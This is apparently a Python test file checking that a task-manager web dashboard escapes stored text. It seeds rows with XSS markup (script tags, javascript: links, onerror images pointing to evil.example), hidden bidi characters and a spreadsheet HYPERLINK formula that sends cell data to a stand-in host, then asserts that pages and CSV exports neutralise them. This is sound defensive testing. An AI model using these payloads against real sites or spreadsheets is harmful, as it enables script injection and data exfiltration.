"""Rows that want to be more than text: every page that can be reached is read as a browser reads it, and judged."""

import contextlib
import csv
import io
import json
import re
import sqlite3
from collections.abc import AsyncIterator
from contextlib import closing
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

import pytest

from taskmanager import TaskManager, Workflow, current_task
from tests.web.pages import Element, elements_of, text_of, walk
from tests.web.visitor import Visitor, manager_on, visit

pytestmark = pytest.mark.anyio

MARKUP: Final = (
    '<evil-x onevil=1>\'"><evil-x></evil-x><script>evil()</script><a href="javascript:evil()">a</a>'
    "<img src=//evil.example onerror=evil()>{{ 7*7 }}</textarea></title></script>]]><!--"
)
EVIL: Final = f"javascript:evil(){MARKUP}\u202egnp.exe\u2066\x1b[31m\x07"
FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
NAME: Final = "evilname"
LARGE: Final = 8_000_000
MAX_PAGE_BYTES: Final = 500_000
SHAPE: Final = frozenset(
    word
    for line in (
        "html head meta title link script body a header nav button p main h1 h2 h3 h4 dialog div dl dt dd kbd label",
        "input section article aside footer ul ol li table caption colgroup col thead tbody tfoot tr th td span strong",
        "em b i small time code pre samp form select option optgroup textarea fieldset legend details summary progress",
        "meter svg g path rect line circle text desc polyline polygon use defs marker tspan figure figcaption br hr",
        "abbr datalist output search data",
    )
    for word in line.split()
)
"""The elements that pages are made of. None of them loads or runs anything by itself, but a script of ours."""
UNSEEN: Final = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
ADDRESSES: Final = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "ping")


async def work(manager: TaskManager) -> None:
    """Do something of each kind, with a name that is easily found in the file."""

    @manager.task(name=NAME, persist=True, queue_name=NAME)
    async def takes(text: str, *, is_failing: bool = False) -> Any:
        current_task().log(text, field=text)
        current_task().progress(1, 2, text)
        if is_failing:
            raise ValueError(text)
        return {text: text, "url": "javascript:evil()"}

    @manager.task(name="formula", persist=True, queue_name=FORMULA)
    async def fails() -> None:
        raise ValueError(FORMULA)

    @manager.task(name="large", persist=True)
    async def large() -> str:
        return "<evil-x>" * (LARGE // 8)

    @manager.schedule(name=NAME, every=3600)
    @manager.task(name="scheduled", persist=True)
    async def scheduled() -> None: ...

    async with manager:
        tagged = takes.with_options(tags={NAME: EVIL, "formula": FORMULA}, idempotency_key=NAME)
        handles = [tagged.enqueue(EVIL), takes.enqueue(EVIL, is_failing=True), fails.enqueue(), large.enqueue()]
        for each in handles:
            await each.result()
        workflow = Workflow(NAME)
        workflow.add(takes, EVIL)
        await (await manager.start_workflow(workflow, workflow_id=NAME)).result()
        await takes.with_options(delay=3600).enqueue(EVIL).saved()


def attack(file: Path) -> int:
    """Put the text in the place of the name, wherever a column takes it, as another program could. Return how often."""
    count = 0
    quoted = json.dumps(EVIL)[1:-1]
    with closing(sqlite3.connect(file)) as connection:
        tables = [name for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for table in tables:
            for column in [each[1] for each in connection.execute(f"PRAGMA table_info({table})")]:
                change = f"""
                    UPDATE {table} SET {column} =
                        replace({column}, ?, CASE WHEN substr({column}, 1, 1) IN ('{{', '[', '"') THEN ? ELSE ? END)
                    WHERE typeof({column}) = 'text' AND instr({column}, ?)
                """
                with contextlib.suppress(sqlite3.IntegrityError), connection:
                    count += connection.execute(change, (NAME, quoted, EVIL, NAME)).rowcount
    return count


@pytest.fixture
async def visitor(tmp_path: Path) -> AsyncIterator[Visitor]:
    """Somebody who may act on a file full of such texts."""
    await work(manager_on(tmp_path, instance_name=NAME))
    assert attack(tmp_path / "tasks.db") > 20
    async with visit(manager_on(tmp_path), title=MARKUP) as found:
        yield found


def faults_of(element: Element) -> list[str]:
    """What is wrong with an element, wherever its text came from."""
    found = []
    if element.name not in SHAPE:
        found.append(f"an element <{element.name}>")
    for name, value in element.attributes.items():
        if name.startswith("on") or name in ("style", "srcdoc", "srcset", "ping", "background"):
            found.append(f"an attribute {name}")
        if name in ADDRESSES and (urlsplit(value).scheme or value.startswith(("/", "\\"))):
            found.append(f"{name} leads to {value[:60]}")
        if UNSEEN.search(value) and name != "value":  # forms send names as they are
            found.append(f"characters that nobody sees in {name}")
    if element.name == "script" and not element.attributes.get("src", "").lstrip("./").startswith("static/"):
        found.append("a script in the page")
    if element.name == "meta" and "http-equiv" in element.attributes:
        found.append("a meta element that acts")
    return found


async def test_no_page_takes_a_text_for_more_than_text(visitor: Visitor) -> None:
    """No element, attribute, script, link or hidden character comes from a row, and the policy of each page holds."""
    shown = set()
    async for address, answer in walk(visitor):
        shown.add(urlsplit(address).path.split("/")[1])
        assert answer.status_code in (200, 303, 307), address
        assert "default-src 'none'" in answer.headers["content-security-policy"], address
        if answer.headers.get("content-type", "").startswith("text/html"):
            assert len(answer.content) <= MAX_PAGE_BYTES, address
            elements = elements_of(answer.text)
            assert [fault for element in elements for fault in faults_of(element)] == [], address
            assert {each.name for each in elements if "href" in each.attributes} <= {"a", "link"}
            assert UNSEEN.search(text_of(answer.text)) is None, address
    assert shown >= {"tasks", "queues", "schedules", "failures", "instances", "workflows"}


async def test_export_holds_no_formula(visitor: Visitor) -> None:
    """A spreadsheet computes what begins like one, and may send what it has computed."""
    answer = await visitor.get("tasks/export.csv")
    rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))
    assert len(rows) >= 6
    for cell in (cell for row in rows for cell in row):
        assert not re.match(r"\s*[=+\-@\t\r]", cell), cell
        assert UNSEEN.search(cell) is None
    assert "attachment" in answer.headers["content-disposition"]
    document = (await visitor.get("tasks/export.json")).json()
    assert {each["task_name"] for each in document} >= {"formula", "large"}


async def test_addresses_that_nobody_links_to_are_answered(visitor: Visitor) -> None:
    """Whatever stands in a query or a path: a page, and no traceback."""
    texts = (
        "%00",
        "%ff%fe",
        "%E2%80%AE",
        "%3Cevil-x%20onevil=1%3E",
        "9" * 5000,
        "-1",
        "1e999",
        "%27%22%3E%3Cevil-x%3E",
    )
    fields = ("status", "task", "queue", "tag", "error", "since", "text", "before", "v", "at", "span", "no_such")
    for text in texts:
        addresses = [f"{page}?{'&'.join(f'{field}={text}' for field in fields)}" for page in ("", "tasks", "failures")]
        addresses += [f"tasks?{field}={text}" for field in fields]
        addresses += [f"{page}/{text}" for page in ("tasks", "workflows", "queues", "static")]
        for address in addresses:
            answer = await visitor.get(address)
            assert answer.status_code < 500, address
            if answer.headers.get("content-type", "").startswith("text/html"):
                assert [fault for each in elements_of(answer.text) for fault in faults_of(each)] == [], address


async def test_hundred_thousand_names_make_no_endless_page(tmp_path: Path) -> None:
    """An application that puts an id into the name of each task harms itself, but not its dashboard."""
    manager = manager_on(tmp_path)

    @manager.task(name="one", persist=True)
    async def one() -> None:
        raise ValueError

    async with manager:
        await one.enqueue().result()
    with closing(sqlite3.connect(tmp_path / "tasks.db")) as connection, connection:
        names = [each[1] for each in connection.execute("PRAGMA table_info(taskmanager_tasks)")]
        new = {"id": "printf('0%011x-0000-7000-8000-000000000000', n)", "task_name": "'name ' || n"}
        values = ", ".join(new.get(name, name) for name in names)
        connection.execute(
            f"WITH RECURSIVE numbers(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < 100000) "
            f"INSERT INTO taskmanager_tasks ({', '.join(names)}) SELECT {values} FROM taskmanager_tasks, numbers"
        )
    async with visit(manager) as visitor:
        for page in ("", "tasks", "failures", "queues", "schedules", "instances"):
            answer = await visitor.get(page)
            assert (answer.status_code, len(answer.content) <= MAX_PAGE_BYTES) == (200, True), page
